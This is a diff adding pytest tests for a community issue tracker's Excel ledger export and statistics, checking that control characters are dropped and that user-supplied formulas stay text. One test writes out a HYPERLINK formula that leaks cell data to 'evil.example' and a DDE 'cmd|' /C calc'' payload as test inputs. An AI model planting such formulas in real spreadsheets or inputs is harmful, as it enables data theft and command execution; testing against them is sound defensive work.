@@ -1,5 +1,6 @@
 """Statistics for any period, and the ledger spreadsheet — against the daily report's hand
-count (the data set of tests/core/figures/test_reports.py)."""
+count (the data set of tests/core/figures/test_reports.py); the ledger's cells stay text (no
+control characters, no formulas written by people)."""
 
 from __future__ import annotations
 
@@ -10,9 +11,18 @@ import pytest
 from openpyxl import load_workbook
 
 from core.figures import ledger
-from models import Event
+from infra.timeutil import to_local, utcnow
+from models import Event, Issue
 from tests.core.figures.test_reports import at, dataset  # noqa: F401  (the fixture)
-from tests.factories import login, login_staff, make_district, make_staff
+from tests.factories import (
+    login,
+    login_staff,
+    login_steward,
+    make_district,
+    make_staff,
+    post_issue,
+    submit_issue,
+)
 
 API = "/api/v1"
 DAY = "2026-11-21"
@@ -141,3 +151,73 @@ def test_ledger_is_made_to_be_filtered_and_printed(client):
 )
 def test_default_ledger_period_is_last_month_in_the_first_five_days(today, expected):
     assert ledger.default_period(today) == expected
+
+
+def _ledger(client, district_world):
+    today = to_local(utcnow()).date().isoformat()  # today's items, whatever the default period
+    res = client.get(f"{API}/ledger.xlsx?date_from={today}", headers=district_world["staff"])
+    assert res.status_code == 200, res.get_data(as_text=True)[:300]
+    return load_workbook(io.BytesIO(res.data))
+
+
+@pytest.mark.parametrize("char", ["\x0b", "\x01", "\x1f", "\x7f", "\x85"])
+def test_control_characters_never_break_the_ledger(client, district_world, char):
+    assert post_issue(client, district_world, content=f"路灯{char}坏了").status_code == 201
+    rows = list(_ledger(client, district_world)["诉求台账"].iter_rows(values_only=True))
+    assert rows[2][3] == "路灯坏了"
+
+
+def test_control_characters_already_stored_are_dropped_from_the_ledger(client, district_world):
+    """Rows written before the fix (straight into the table) still export."""
+    assert post_issue(client, district_world).status_code == 201
+    Issue.update(content="旧\x0b数据\x01").execute()
+    rows = list(_ledger(client, district_world)["诉求台账"].iter_rows(values_only=True))
+    assert rows[2][3] == "旧数据"
+
+
+def test_formulas_written_by_people_stay_text(client, district_world):
+    evil = '=HYPERLINK("http://evil.example/?x="&A2,"点击查看")'
+    res = post_issue(client, district_world, content=evil)
+    assert res.status_code == 201
+    body = res.get_json()
+    issue_id = (body.get("issue") or body)["id"]
+    assert (
+        client.post(
+            f"{API}/issues/{issue_id}/accept", json={}, headers=district_world["steward"]
+        ).status_code
+        == 200
+    )
+    assert (
+        client.post(
+            f"{API}/issues/{issue_id}/resolve",
+            json={"note": "+1+cmd|' /C calc'!A0"},
+            headers=district_world["steward"],
+        ).status_code
+        == 200
+    )
+    sheet = _ledger(client, district_world)["诉求台账"]
+    header = [c.value for c in sheet[2]]  # row 1 is the title
+    content = sheet.cell(row=3, column=header.index("内容") + 1)
+    note = sheet.cell(row=3, column=header.index("办结说明") + 1)
+    assert (content.value, content.data_type) == (evil, "s")
+    assert (note.value, note.data_type) == ("+1+cmd|' /C calc'!A0", "s")
+    assert content.quotePrefix and note.quotePrefix  # Excel keeps them text when edited
+
+
+def test_stats_carry_the_counts_behind_each_rate(client):
+    d = make_district()
+    staff = login_staff(client, make_staff(d.communities[0]))
+    steward = login_steward(client, d.stewards[0])
+    resident = login(client, "张大妈")
+    issue = submit_issue(client, resident, d.boards[0].code)
+    for action, body in (("accept", {}), ("resolve", {"note": "已清理"})):
+        res = client.post(f"{API}/issues/{issue['id']}/{action}", json=body, headers=steward)
+        assert res.status_code == 200, res.get_json()
+    res = client.post(f"{API}/issues/{issue['id']}/rate", json={"score": 2}, headers=resident)
+    assert res.status_code == 200, res.get_json()
+
+    today = to_local(utcnow()).date().isoformat()  # today's items, whatever the default period
+    c = client.get(f"{API}/stats?date_from={today}", headers=staff).get_json()["counts"]
+    assert (c["answerable"], c["responded"], c["counted"], c["solved"]) == (1, 1, 1, 1)
+    assert (c["rated"], c["satisfied"], c["satisfaction_rate"]) == (1, 0, 0.0)
+    assert c["response_rate"] == 1.0 and c["resolution_rate"] == 1.0
